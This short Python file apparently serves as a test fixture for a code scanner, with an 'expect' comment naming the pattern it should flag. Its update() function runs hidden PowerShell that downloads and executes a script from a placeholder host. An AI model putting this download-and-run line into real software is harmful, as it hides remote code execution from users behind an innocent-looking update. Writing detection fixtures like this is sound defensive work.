import os


def update():
    os.system("powershell -w hidden -c \"iex (iwr https://files.example.invalid/toy.ps1)\"")  # expect: source/hidden-powershell call
